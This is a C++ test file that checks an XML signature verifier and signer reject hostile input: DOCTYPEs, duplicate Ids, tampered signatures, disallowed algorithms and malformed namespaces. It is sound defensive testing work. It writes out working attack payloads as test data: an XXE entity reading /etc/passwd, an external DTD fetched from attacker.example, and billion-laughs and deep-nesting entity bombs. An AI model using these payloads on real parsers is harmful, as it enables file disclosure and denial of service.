// Hostile XML: every document goes through the hardened parser before anything else sees it.
#include <doctest/doctest.h>

#include "tests/signing/fixture.hpp"

namespace motcua::signing::test {
namespace {

ErrorCode verify_code(const std::string& xml, const VerifyOptions& options = {}) {
  auto report = verifier().verify(xml, options);
  INFO(report.to_json(false, true));
  REQUIRE_FALSE(report.valid());
  return report.error->code;
}

// A validly signed document whose prolog is replaced: the signature itself stays intact.
std::string with_prolog(const std::string& prolog, const std::string& entity_use = {}) {
  auto signed_xml = signer_for("so-tu-phap").sign(sample_document());
  REQUIRE(signed_xml.has_value());
  std::string doc =
      replace_once(*signed_xml, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", prolog);
  if (!entity_use.empty()) doc = replace_once(doc, "Hồng Nhung", entity_use);
  return doc;
}

}  // namespace

TEST_CASE("Verifier refuses any DOCTYPE before parsing further") {
  SUBCASE("plain DOCTYPE") {
    CHECK(verify_code(with_prolog("<!DOCTYPE KetQua>")) == ErrorCode::kDoctypeForbidden);
  }
  SUBCASE("XXE: external entity reading a local file") {
    CHECK(verify_code(with_prolog("<!DOCTYPE KetQua [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                                  "&xxe;")) == ErrorCode::kDoctypeForbidden);
  }
  SUBCASE("external DTD over the network") {
    CHECK(
        verify_code(with_prolog("<!DOCTYPE KetQua SYSTEM \"http://attacker.example/evil.dtd\">")) ==
        ErrorCode::kDoctypeForbidden);
  }
  SUBCASE("billion laughs") {
    std::string dtd = "<!DOCTYPE KetQua [<!ENTITY lol0 \"lol\">";
    for (int i = 1; i < 10; ++i) {
      dtd += "<!ENTITY lol" + std::to_string(i) + " \"";
      for (int j = 0; j < 10; ++j) dtd += "&lol" + std::to_string(i - 1) + ";";
      dtd += "\">";
    }
    CHECK(verify_code(with_prolog(dtd + "]>", "&lol9;")) == ErrorCode::kDoctypeForbidden);
  }
  SUBCASE("deeply nested entities (the xmlsec c14n stack overflow)") {
    std::string dtd = "<!DOCTYPE KetQua [<!ENTITY e0 \"<a/>\">";
    for (int i = 1; i < 2000; ++i) {
      dtd += "<!ENTITY e" + std::to_string(i) + " \"&e" + std::to_string(i - 1) + ";\">";
    }
    CHECK(verify_code(with_prolog(dtd + "]>", "&e1999;")) == ErrorCode::kDoctypeForbidden);
  }
  SUBCASE("the signer refuses it too") {
    auto out = signer_for("so-tu-phap").sign("<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>");
    REQUIRE_FALSE(out.has_value());
    CHECK(out.error().code == ErrorCode::kDoctypeForbidden);
  }
}

TEST_CASE("Verifier refuses malformed, oversized and over-deep documents, and duplicate Ids") {
  CHECK(verify_code("") == ErrorCode::kMalformedXml);
  CHECK(verify_code("<KetQua><a></KetQua>") == ErrorCode::kMalformedXml);
  CHECK(verify_code("not xml at all") == ErrorCode::kMalformedXml);
  CHECK(verify_code("<a>&undefined;</a>") == ErrorCode::kMalformedXml);
  VerifyOptions small;
  small.limits.max_bytes = 100;
  CHECK(verify_code(sample_document(), small) == ErrorCode::kTooLarge);
  std::string deep;
  for (int i = 0; i < 100; ++i) deep += "<a>";
  for (int i = 0; i < 100; ++i) deep += "</a>";
  CHECK(verify_code(deep) == ErrorCode::kTooDeep);
  CHECK(verify_code("<a><b Id=\"x\"/><c ID=\"x\"/></a>") == ErrorCode::kDuplicateId);
  CHECK(verify_code("<a xml:id=\"x\"><b Id=\"x\"/></a>") == ErrorCode::kDuplicateId);
  CHECK(verify_code(sample_document()) == ErrorCode::kNoSignature);
  auto out = signer_for("so-tu-phap").sign("<a><b Id=\"x\"/><b Id=\"x\"/></a>");
  REQUIRE_FALSE(out.has_value());
  CHECK(out.error().code == ErrorCode::kDuplicateId);
}

TEST_CASE("Verifier refuses malformed signatures without crashing") {
  auto signed_xml = signer_for("ubnd-tinh").sign(sample_document());
  REQUIRE(signed_xml.has_value());
  const std::string good = *signed_xml;
  CHECK(verify_code(replace_once(good, "<ds:SignatureValue>", "<ds:SignatureValue>!!")) ==
        ErrorCode::kSignatureMismatch);
  const auto from = good.find("<ds:KeyInfo>");
  const auto to = good.find("</ds:KeyInfo>") + 13;
  CHECK(verify_code(good.substr(0, from) + good.substr(to)) == ErrorCode::kNoCertificate);
  CHECK(verify_code(replace_once(good, "<ds:X509Certificate>", "<ds:X509Certificate>AAAA")) ==
        ErrorCode::kNoCertificate);
  CHECK(verify_code(replace_once(good, "<ds:SignedInfo>", "<ds:SignedInfo>text")) ==
        ErrorCode::kMalformedSignature);
  CHECK(verify_code(replace_once(
            good, "http://www.w3.org/2001/10/xml-exc-c14n#\"></ds:CanonicalizationMethod>",
            "http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"></ds:CanonicalizationMethod>")) ==
        ErrorCode::kTransformNotAllowed);
  CHECK(verify_code(replace_once(good, "xmldsig-more#rsa-sha256", "xmldsig-more#ecdsa-sha256")) ==
        ErrorCode::kAlgorithmNotAllowed);
}

}  // namespace motcua::signing::test

namespace motcua::signing::test {

TEST_CASE(
    "Verifier refuses documents that are not namespace-well-formed or whose namespace URIs "
    "other implementations canonicalise differently") {
  // Two attributes with one expanded name: attribute order in c14n would be undefined.
  CHECK(verify_code("<a xmlns:p=\"urn:x\" xmlns:q=\"urn:x\"><b p:a=\"1\" q:a=\"2\"/></a>") ==
        ErrorCode::kMalformedXml);
  for (const char* uri : {"urn:a&amp;b", "urn:a&#38;b", "urn:a&quot;b", "urn:a&lt;b"}) {
    CAPTURE(uri);
    CHECK(verify_code(std::string("<a xmlns:p=\"") + uri + "\"><p:b/></a>") ==
          ErrorCode::kMalformedXml);
    auto signed_xml = signer_for("so-tu-phap").sign(std::string("<a xmlns=\"") + uri + "\"/>");
    REQUIRE_FALSE(signed_xml.has_value());
    CHECK(signed_xml.error().code == ErrorCode::kMalformedXml);
  }
}

}  // namespace motcua::signing::test
